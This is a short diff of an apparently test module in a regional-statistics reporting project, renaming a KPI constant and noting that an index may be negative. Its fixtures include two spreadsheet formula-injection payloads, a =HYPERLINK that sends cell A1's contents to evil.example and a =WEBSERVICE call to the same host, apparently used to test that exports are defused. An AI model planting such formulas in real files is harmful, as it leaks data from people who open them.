@@ -29,7 +29,8 @@ from regions.models import Region
 from reports import services as reports
 from reports.models import Report
 
-PLAN, KPI, REGION, SERIES = "busan-2", "rnd_to_grdp_pct", "26", "rcostii_rank"
+# An index may be negative (with a note): the value that must stay a number in every file.
+PLAN, KPI, REGION, SERIES = "busan-2", "se_talent_flow_index", "26", "rcostii_rank"
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"보기")'
 URL_FORMULA = '=WEBSERVICE("https://evil.example/")'
 # What Excel, LibreOffice or Google Sheets may read as a formula.
